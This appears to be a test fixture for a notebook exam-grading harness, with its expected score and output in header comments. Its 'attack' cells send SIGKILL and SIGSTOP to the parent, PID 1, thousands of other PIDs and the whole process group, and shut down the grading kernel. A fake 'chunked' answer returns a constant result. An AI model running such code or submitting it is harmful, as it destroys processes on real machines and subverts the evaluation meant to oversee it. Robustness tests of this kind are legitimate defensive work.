# Kills its parent, its group, every process that it can name, and asks the kernel's process manager to stop the exam.
# earns: 4
# shows: TRIED 5000 processes
# shows: the kernel stopped while this cell ran

# %% attack cell after chunked
import os
import signal

tried, kernel = set(), get_ipython().kernel
mine = set(map(int, os.listdir("/proc/self/task")))
for pid in (os.getppid(), 1, *range(2, 5000), -1):
    for number in (signal.SIGKILL, signal.SIGSTOP):
        try:
            tried.add(pid)
            if pid not in mine:
                os.kill(pid, number)
        except OSError:
            pass
kernel.do_shutdown(False)
if hasattr(kernel, "_line"):
    for order in ("shutdown", "shutdown_request", "interrupt_request", "bye"):
        kernel._line.send({"op": order, "cell": kernel._publisher.cell, "restart": False})
print("TRIED", len(tried), "processes")

# %% attack cell after chunked-values
os.kill(0, signal.SIGKILL)  # the group, and so itself


# %% attack answer chunked
def chunked(iterable, size):
    return iter([["a", "b"]])


# %% twin cell first
import os
import signal
import subprocess

child = subprocess.Popen(["sleep", "1000"])
os.kill(child.pid, signal.SIGKILL)
print(child.wait() == -signal.SIGKILL)
